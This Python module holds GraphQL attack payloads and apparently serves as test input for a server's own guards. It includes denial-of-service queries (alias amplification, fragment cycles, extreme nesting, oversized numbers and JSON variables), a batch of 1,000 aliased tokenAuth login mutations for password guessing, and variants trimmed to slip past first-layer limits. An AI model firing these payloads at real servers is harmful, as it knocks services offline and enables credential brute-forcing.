"""Documents and variables of somebody who read how GraphQL servers are brought to their knees.

`FAMOUS` is what the cheat sheets have. `FITTED` is each attack cut to what the first counts let through, so that it
reaches the guard behind them.
"""

from __future__ import annotations

from typing import Any


def times(count: int, text: str) -> str:
    """The text so many times; {n} in it is the number."""
    return " ".join(text.replace("{n}", str(number)) for number in range(count))


def nested(count: int, opening: str, inner: str = "id", closing: str = "}") -> str:
    return opening * count + inner + closing * count


def twofold(levels: int) -> str:
    """The same selection twice in each level."""
    inner = "id"
    for _ in range(levels):
        inner = " ".join([f"listings{{edges{{node{{host{{{inner}}}}}}}}}"] * 2)
    return inner


SIGN_IN = 'tokenAuth(email:"guest@example.com",password:"x{n}"){token}'
REVIEWS = "listing{reviews(first:100){edges{node{"

FAMOUS = {
    "29 MB from 5 KB": "{listings(first:100){edges{node{" + times(340, "a{n}:description") + "}}}}",
    "29 MB from less than 3 KB": "{listings(first:100){edges{node{" + times(180, "a{n}:description") + "}}}}",
    "10,000 repeated fields": "{" + "id " * 10_000 + "}",
    "10,000 repeated objects": "{viewer:me{id} " + "me{id} " * 10_000 + "}",
    "a fragment cycle": "{me{user{...A}}} fragment A on User{...B} fragment B on User{...A}",
    "a fragment of itself": "{me{user{...A}}} fragment A on User{id ...A}",
    "500 fragments in a ring": "{me{user{...F0}}}"
    + times(499, "fragment F{n} on User{id ...G{n}} fragment G{n} on User{id ...F{n}}"),
    "1,000 aliases of tokenAuth": "mutation{" + times(1_000, "a{n}:" + SIGN_IN) + "}",
    "deep reviews": '{listing(id:"x"){reviews{edges{node{' + nested(8, REVIEWS, closing="}}}}") + "}}}}}",
    "reviews too deep to parse": '{listing(id:"x"){reviews{edges{node{'
    + nested(2_000, REVIEWS, closing="}}}}")
    + "}}}}}",
    "10,000 directives": "{__typename " + "@a" * 10_000 + "}",
    "10,000 includes": "{__typename " + "@include(if:true)" * 10_000 + "}",
    "a list in 10,000 lists": "{nodes(ids:" + nested(10_000, "[", '"a"', "]") + "){id}}",
    "a type in 10,000 lists": "query($a:" + nested(10_000, "[", "Int", "]") + "){__typename}",
    "objects in 5,000 objects": "{listings(filter:" + nested(5_000, "{text:", '"a"') + "){totalCount}}",
    "a list of 20,000": "{nodes(ids:[" + '"a" ' * 20_000 + "]){id}}",
    "2,000 pairs of fields to compare": "{" + times(2_000, "me{a:id b{n}:id}") + "}",
    "5,000 spreads": "{" + "...F " * 5_000 + "} fragment F on Query{__typename}",
    "spreads of spreads of spreads": "{" + "...A " * 400 + "}" + "fragment A on Query{" + "...B " * 400 + "}"
    "fragment B on Query{" + "...C " * 400 + "} fragment C on Query{__typename}",
    "2,000 operations": times(2_000, "query Q{n}{__typename}"),
    "a text of 900,000 characters": '{node(id:"' + "x" * 900_000 + '"){id}}',
    "an integer of 90,000 digits": "{listings(first:" + "9" * 90_000 + "){totalCount}}",
    "an integer of 50,000 digits": "{listings(first:" + "9" * 50_000 + "){totalCount}}",
    "a number of 50,000 digits": "{listings(filter:{minRating:" + "9" * 50_000 + ".5}){totalCount}}",
    "90,000 comments": "{__typename}" + "#\n" * 90_000,
    "strings that nobody closes": '"""\\"' * 10_000,
    "introspection in a circle": "{__schema{types{" + nested(12, "fields{type{", "name", "}}") + "}}}",
}

FITTED = {
    "aliases of one field": "{listings{edges{node{" + times(200, "a{n}:description") + "}}}}",
    "one field": "{me{user{" + "id " * 590 + "}}}",
    "one object": "{" + "me{id} " * 99 + "}",
    "fields that differ": "{me{user{" + times(280, "id:firstName id:displayName") + "}}}",
    "arguments that differ": "{" + times(99, 'node(id:"{n}"){id}') + "}",
    "twofold selections": "{me{user{" + twofold(4) + "}}}",
    "fields in fragments": "{me{user{"
    + times(55, "...F{n}")
    + "}}}"
    + times(55, "fragment F{n} on User{id firstName displayName joinedAt}"),
    "every fragment in every later one": "{me{user{...F0}}}"
    + " ".join(f"fragment F{n} on User{{id {' '.join(f'...F{m}' for m in range(n + 1, 18))}}}" for n in range(18)),
    "a chain of fragments": "{me{user{...F0}}}"
    + " ".join(f"fragment F{n} on User{{id ...F{n + 1}}}" for n in range(55))
    + "fragment F55 on User{id}",
    "cycles of cycles": "{me{user{...F0}}}"
    + " ".join(f"fragment F{n} on User{{{' '.join(f'...F{m}' for m in range(14))}}}" for n in range(14)),
    "spreads of spreads": "{"
    + "...A " * 60
    + "} fragment A on Query{"
    + "...B " * 60
    + "} fragment B on Query{"
    + "...C " * 60
    + "} fragment C on Query{"
    + "__typename " * 60
    + "}",
    "inline fragments": "{me{user{" + "... on User{id} " * 320 + "}}}",
    "operations": times(20, "query Q{n}{" + "...F " * 10 + "}") + "fragment F on Query{" + "__typename " * 500 + "}",
    "operations of one name": "query Q{__typename} " * 20,
    "fragments that nobody uses": "{__typename}" + times(60, "fragment F{n} on Query{__typename}"),
    "variables that nobody uses": "query(" + times(99, "$v{n}:Int") + "){__typename}",
    "variables of one name": "query(" + "$v:Int " * 99 + "){__typename}",
    "variables in many operations": times(20, "query Q{n}($a{n}:Int,$b{n}:Int){...F}")
    + "fragment F on Query{__typename}",
    "directives that nobody knows": "{" + times(99, "__typename@a{n}") + "}",
    "directives that repeat": "{__typename " + "@skip(if:false)" * 100 + "}",
    "types that nobody knows": "query(" + times(99, "$v{n}:Listingz{n}") + "){__typename}",
    "fields that nobody knows": "{" + times(99, "listingz{n}") + "}",
    "arguments that nobody knows": "{listings(" + times(490, "firzt{n}:1") + "){totalCount}}",
    "input fields that nobody knows": "{listings(filter:{" + times(490, "tezt{n}:1") + "}){totalCount}}",
    "input fields of one name": "{listings(filter:{" + 'text:"a" ' * 490 + "}){totalCount}}",
    "fragments that nobody knows": "{" + times(99, "...F{n}") + "}",
    "a list of wrong values": "{nodes(ids:[" + "1.5 " * 490 + "]){id}}",
    "numbers": "{" + times(90, "a{n}:listings(first:" + "9" * 99 + "){totalCount}") + "}",
    "selections within selections": "{" + nested(14, "listings{edges{node{host{", closing="}}}}") + "}",
}

# As JSON, since no client would write them otherwise. The query takes a list of ids.
VARIABLES: dict[str, Any] = {
    "nested 10,000 deep": '{"ids":' + "[" * 10_000 + "1" + "]" * 10_000 + "}",
    "nested 1,000 deep": '{"ids":' + "[" * 1_000 + "1" + "]" * 1_000 + "}",
    "objects nested 1,000 deep": '{"ids":' + '{"a":' * 1_000 + "1" + "}" * 1_000 + "}",
    "1 MB of values": '{"ids":[' + '"a",' * 240_000 + '"a"]}',
    "1 MB of wrong values": '{"ids":[' + "1.5,".ljust(4) * 240_000 + "1.5]}",
    "1 MB of objects": '{"ids":[' + "{}," * 320_000 + "{}]}",
    "1 MB of lists that nobody asked for": '{"ids":["a"],"more":[' + "[]," * 320_000 + "[]]}",
    "1 MB of names": '{"ids":["a"],' + ",".join(f'"v{n}":1' for n in range(90_000)) + "}",
    "1 MB in one number": '{"ids":' + "9" * 980_000 + "}",
}
